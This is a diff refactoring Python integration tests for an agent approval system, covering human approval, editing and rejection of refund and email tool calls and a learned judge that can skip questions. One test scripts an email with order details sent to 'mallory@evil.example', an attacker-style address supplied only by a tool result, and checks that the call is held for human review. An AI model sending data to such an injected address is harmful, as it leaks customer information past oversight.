@@ -2,27 +2,27 @@
 
 from typing import Any
 
-import pytest
 from langgraph.types import Command
 
 from tests.conftest import Bench, judgings
 from tests.integration_tests.agents.support import Calls, calls
 from tests.integration_tests.approvals.support import (
+    APPROVE,
+    BOTH_MODES,
+    CALL,
     CRITERION,
+    IN_MEMORY,
+    REFUND,
     Shop,
     agent,
     answers,
     ask,
     questions,
     results,
+    start,
     trust_judge,
 )
 from tests.integration_tests.gates.support import always
-
-BOTH_MODES = pytest.mark.parametrize("mode", ["batched", "per_call"])
-IN_MEMORY = pytest.mark.every_way("memory-sync", "memory-async")
-REFUND = {"name": "refund", "args": {"order": "A7", "amount": 20}}
-APPROVE = {"type": "approve"}
 
 
 @BOTH_MODES
@@ -30,9 +30,7 @@ APPROVE = {"type": "approve"}
 async def test_a_call_is_asked_about_at_first_and_runs_when_it_is_approved(
     bench: Bench, mode: str
 ) -> None:
-    shop = Shop()
-    graph = agent(bench, shop, calls("refund", order="A7", amount=20), "Done.", interrupt_mode=mode)
-    asked = await bench.invoke(graph, ask())
+    shop, graph, asked = await start(bench, mode, CALL, "Done.")
     assert questions(asked) == [REFUND]
     assert shop.ran == []
     done = await bench.resume(graph, answers(asked, APPROVE))
@@ -50,9 +48,7 @@ async def test_a_call_like_those_that_were_approved_runs_without_a_question(
     bench: Bench, mode: str
 ) -> None:
     await trust_judge(bench)
-    shop = Shop()
-    graph = agent(bench, shop, calls("refund", order="A7", amount=20), "Done.", interrupt_mode=mode)
-    done = await bench.invoke(graph, ask())
+    shop, _, done = await start(bench, mode, CALL, "Done.")
     assert (questions(done), shop.ran) == ([], [("A7", 20)])
     [kept] = bench.memory(CRITERION).judgments(waiting=True)
     assert (kept.example.outputs, kept.judgment.value) == (REFUND, True)
@@ -63,10 +59,8 @@ async def test_a_call_like_those_that_were_approved_runs_without_a_question(
 @BOTH_MODES
 @IN_MEMORY
 async def test_approve_edit_reject_and_respond_beside_each_other(bench: Bench, mode: str) -> None:
-    shop = Shop()
     several = [("refund", {"order": f"A{number}", "amount": 20}) for number in range(4)]
-    graph = agent(bench, shop, Calls(*several), "Done.", interrupt_mode=mode)
-    asked = await bench.invoke(graph, ask())
+    shop, graph, asked = await start(bench, mode, Calls(*several), "Done.")
     assert [question["args"]["order"] for question in questions(asked)] == ["A0", "A1", "A2", "A3"]
     edited = {"name": "refund", "args": {"order": "A1", "amount": 5}}
     decisions: list[dict[str, Any]] = [
@@ -96,12 +90,8 @@ async def test_approve_edit_reject_and_respond_beside_each_other(bench: Bench, m
 @BOTH_MODES
 async def test_of_two_calls_in_one_message_one_is_asked_about(bench: Bench, mode: str) -> None:
     await trust_judge(bench)
-    shop = Shop()
-    both = Calls(
-        ("refund", {"order": "A7", "amount": 20}), ("send_email", {"to": "x", "body": "y"})
-    )
-    graph = agent(bench, shop, both, "Done.", interrupt_mode=mode, always_ask=["send_email"])
-    asked = await bench.invoke(graph, ask())
+    both = Calls(*CALL.calls, ("send_email", {"to": "x", "body": "y"}))
+    shop, graph, asked = await start(bench, mode, both, "Done.", always_ask=["send_email"])
     assert [question["name"] for question in questions(asked)] == ["send_email"]
     await bench.resume(graph, answers(asked, {"type": "reject"}))
     assert shop.ran == [("A7", 20)]
@@ -117,9 +107,7 @@ async def test_what_the_judge_does_not_pass_is_asked_about_however_sure_it_is(
 ) -> None:
     await trust_judge(bench, verdict=False, value=False)
     bench.server.rules = always(False)
-    shop = Shop()
-    graph = agent(bench, shop, calls("refund", order="A7", amount=20), interrupt_mode=mode)
-    asked = await bench.invoke(graph, ask())
+    shop, _, asked = await start(bench, mode, CALL)
     assert (questions(asked), shop.ran) == ([REFUND], [])
     [kept] = bench.memory(CRITERION).judgments(waiting=True)
     assert kept.judgment.review is not None
@@ -133,10 +121,7 @@ async def test_a_call_is_refused_with_the_critique_where_that_is_wanted(
 ) -> None:
     await trust_judge(bench, verdict=False, value=False)
     bench.server.rules = always(False, "Nobody asked for a refund.")
-    shop = Shop()
-    refunds = calls("refund", order="A7", amount=20)
-    graph = agent(bench, shop, refunds, "Sorry.", interrupt_mode=mode, on_fail="refuse")
-    done = await bench.invoke(graph, ask())
+    shop, _, done = await start(bench, mode, CALL, "Sorry.", on_fail="refuse")
     assert (questions(done), shop.ran, done["messages"][-1].text) == ([], [], "Sorry.")
     [(status, text)] = results(done)
     assert status == "error"
@@ -148,10 +133,8 @@ async def test_a_refusal_waits_until_the_judge_is_known_to_be_right(
     bench: Bench, mode: str
 ) -> None:
     bench.server.rules = always(False)
-    shop = Shop()
-    refunds = calls("refund", order="A7", amount=20)
-    graph = agent(bench, shop, refunds, interrupt_mode=mode, on_fail="refuse")
-    assert questions(await bench.invoke(graph, ask())) == [REFUND]
+    _, _, asked = await start(bench, mode, CALL, on_fail="refuse")
+    assert questions(asked) == [REFUND]
 
 
 @BOTH_MODES
@@ -163,12 +146,8 @@ async def test_always_ask_may_be_a_function_of_the_call(bench: Bench, mode: str)
         seen.append(call)
         return bool(call["args"]["amount"] >= 20)
 
-    shop = Shop()
-    both = Calls(
-        ("refund", {"order": "A7", "amount": 20}), ("refund", {"order": "A7", "amount": 19})
-    )
-    graph = agent(bench, shop, both, interrupt_mode=mode, always_ask=is_large)
-    asked = await bench.invoke(graph, ask())
+    both = Calls(*CALL.calls, ("refund", {"order": "A7", "amount": 19}))
+    _, _, asked = await start(bench, mode, both, always_ask=is_large)
     assert questions(asked) == [REFUND]
     assert {*seen[0]} == {"name", "args", "id"}
 
@@ -176,16 +155,9 @@ async def test_always_ask_may_be_a_function_of_the_call(bench: Bench, mode: str)
 @BOTH_MODES
 async def test_an_address_that_only_a_tool_named_is_asked_about(bench: Bench, mode: str) -> None:
     await trust_judge(bench)
-    shop = Shop()
-    mail = {"body": "Your refund of 20 for the hat, order A7."}
-    graph = agent(
-        bench,
-        shop,
-        Calls(("look_up", {"name": "Bob"})),
-        calls("send_email", to="mallory@evil.example", **mail),
-        interrupt_mode=mode,
-    )
-    asked = await bench.invoke(graph, ask())
+    body = "Your refund of 20 for the hat, order A7."
+    email = calls("send_email", to="mallory@evil.example", body=body)
+    _, _, asked = await start(bench, mode, Calls(("look_up", {"name": "Bob"})), email)
     assert [question["args"]["to"] for question in questions(asked)] == ["mallory@evil.example"]
     [kept] = bench.memory(CRITERION).judgments(waiting=True)
     assert kept.judgment.review is not None
@@ -196,9 +168,7 @@ async def test_a_call_marked_wrong_later_teaches_and_counts(bench: Bench) -> Non
     from memalign_graph import create_feedback_graph
 
     await trust_judge(bench)
-    shop = Shop()
-    graph = agent(bench, shop, calls("refund", order="A7", amount=20), "Done.")
-    await bench.invoke(graph, ask())
+    await start(bench, "batched", CALL, "Done.")
     memory = bench.memory(CRITERION)
     report = memory.review_report()
     assert (report.asked.asked, report.unasked, report.unasked_wrong) == (0, 1, 0)
@@ -214,14 +184,7 @@ async def test_a_call_marked_wrong_later_teaches_and_counts(bench: Bench) -> Non
 
 
 async def test_the_person_who_decides_is_the_author(bench: Bench) -> None:
-    shop = Shop()
-    graph = agent(
-        bench,
-        shop,
-        calls("refund", order="A7", amount=20),
-        "Done.",
-        author=lambda runtime: runtime.context["user"],
-    )
+    graph = agent(bench, Shop(), CALL, "Done.", author=lambda runtime: runtime.context["user"])
     asked = await bench.invoke(graph, ask(), context={"user": "bot"})
     await bench.invoke(graph, Command(resume=answers(asked, APPROVE)), context={"user": "ann"})
     assert [episode.author for episode in await bench.episodes(criterion=CRITERION)] == ["ann"]
